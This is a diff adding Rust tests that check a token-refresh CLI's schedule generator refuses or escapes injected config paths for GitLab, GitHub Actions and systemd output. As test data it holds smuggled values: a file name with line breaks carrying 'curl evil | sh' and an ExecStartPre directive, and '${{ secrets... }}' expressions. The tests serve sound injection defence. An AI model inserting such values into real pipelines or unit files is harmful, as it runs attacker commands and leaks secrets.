@@ -407,3 +407,122 @@ fn takopi_migration_resolves_a_relative_key_path_against_the_env_file() {
     );
     assert_ne!(out.code, 2, "{}", out.stderr);
 }
+
+const SCHEDULE_CONFIG: &str = "platforms:\n  tiktok: { enabled: true, client_key: test-client-key }\nauth:\n  writeback: { backend: local }\n";
+
+/// A config path with a line break would add keys, steps or unit directives to
+/// the generated file: refused (exit 2, nothing printed or written), naming it.
+#[test]
+fn schedule_refuses_a_config_path_with_a_line_break() {
+    let env = TestEnv::new();
+    let name = "ev.yaml\n  - run: curl evil | sh\nExecStartPre=evil #";
+    std::fs::write(env.work().join(name), SCHEDULE_CONFIG).unwrap();
+    for kind in ["gitlab", "github-actions", "systemd"] {
+        let before = tree(&env);
+        let out = env.ev(&["--config", name, "schedule", kind, "--write"]);
+        assert_eq!(out.code, 2, "{kind}: {}", out.stderr);
+        assert_eq!(out.stdout, "", "{kind}");
+        assert!(
+            out.stderr.contains("control character"),
+            "{kind}: {}",
+            out.stderr
+        );
+        assert!(out.stderr.contains("ev.yaml\\n"), "{kind}: {}", out.stderr);
+        assert_eq!(tree(&env), before, "{kind}: something was written");
+    }
+}
+
+/// YAML, shell and Actions metacharacters in the config path come back exactly
+/// through a YAML parser and the shell; `${{` is refused for GitHub Actions.
+#[test]
+fn schedule_quotes_yaml_scalars_and_refuses_actions_expressions() {
+    let env = TestEnv::new();
+    let name = "a: b #c 'd\" *e &f !g.yaml";
+    std::fs::write(env.work().join(name), SCHEDULE_CONFIG).unwrap();
+    let expected = format!(
+        "evertoken --config '{}' auth refresh all --metrics-file evertoken-metrics.prom",
+        name.replace('\'', "'\\''")
+    );
+    let out = env.ev(&["--config", name, "schedule", "gitlab"]);
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    let doc: serde_norway::Value = serde_norway::from_str(&out.stdout).unwrap();
+    let script = doc["evertoken-refresh"]["script"][0].as_str().unwrap();
+    assert!(
+        script.starts_with(&expected[..expected.find(" --metrics-file").unwrap()]),
+        "{script}"
+    );
+    let out = env.ev(&["--config", name, "schedule", "github-actions"]);
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    let doc: serde_norway::Value = serde_norway::from_str(&out.stdout).unwrap();
+    let steps = doc["jobs"]["refresh"]["steps"].as_sequence().unwrap();
+    let run = steps
+        .iter()
+        .find(|s| s["name"].as_str() == Some("Refresh tokens"))
+        .and_then(|s| s["run"].as_str())
+        .unwrap();
+    assert!(
+        run.starts_with(&expected[..expected.find(" --metrics-file").unwrap()]),
+        "{run}"
+    );
+    // What the shell makes of it: the config path, whole.
+    let argv = std::process::Command::new("sh")
+        .arg("-c")
+        .arg(format!("printf '%s\\n' {}", &run["evertoken ".len()..]))
+        .output()
+        .unwrap();
+    let words: Vec<String> = String::from_utf8(argv.stdout)
+        .unwrap()
+        .lines()
+        .map(str::to_owned)
+        .collect();
+    assert_eq!(words[1], name);
+
+    let evil = "${{ secrets.EVERTOKEN_SECRETS_TOKEN }}.yaml";
+    std::fs::write(env.work().join(evil), SCHEDULE_CONFIG).unwrap();
+    let out = env.ev(&["--config", evil, "schedule", "github-actions"]);
+    assert_eq!(out.code, 2, "{}", out.stderr);
+    assert_eq!(out.stdout, "");
+    assert!(out.stderr.contains("${{"), "{}", out.stderr);
+}
+
+/// `token_env` must be a variable name: `FOO: ${{ secrets.X }}` or a line break
+/// would add entries to the workflow's `env:`. Refused at config validation.
+#[test]
+fn a_token_env_that_is_not_a_variable_name_is_a_config_error() {
+    let env = TestEnv::new();
+    for bad in [
+        "\"X: ${{ secrets.OTHER }}\"",
+        "\"X\\nEVIL: 1\"",
+        "\"lower\"",
+        "\"1ABC\"",
+    ] {
+        env.config(&format!(
+            "platforms:\n  tiktok: {{ enabled: true, client_key: test-client-key }}\nauth:\n  writeback:\n    backend: github-actions\n    github_actions: {{ repository: o/r, token_env: {bad} }}\n"
+        ));
+        let out = env.ev(&["schedule", "github-actions"]);
+        assert_eq!(out.code, 2, "{bad}: {}", out.stderr);
+        assert_eq!(out.stdout, "", "{bad}");
+        assert!(out.stderr.contains("token_env"), "{bad}: {}", out.stderr);
+    }
+}
+
+/// systemd expands `$VAR` and `%x` in `ExecStart=` and splits on spaces: a config
+/// path holding them is escaped and quoted per systemd.syntax(7).
+#[test]
+fn systemd_exec_start_escapes_dollar_percent_and_quotes() {
+    let env = TestEnv::new();
+    let name = "my $HOME %h ; x.yaml";
+    std::fs::write(env.work().join(name), SCHEDULE_CONFIG).unwrap();
+    let out = env.ev(&["--config", name, "schedule", "systemd"]);
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    let exec = out
+        .stdout
+        .lines()
+        .find_map(|l| l.strip_prefix("ExecStart="))
+        .unwrap();
+    let want = format!(
+        "--config \"{}\" auth refresh all",
+        env.work().join("my $$HOME %%h ; x.yaml").display()
+    );
+    assert!(exec.contains(&want), "{exec}");
+}
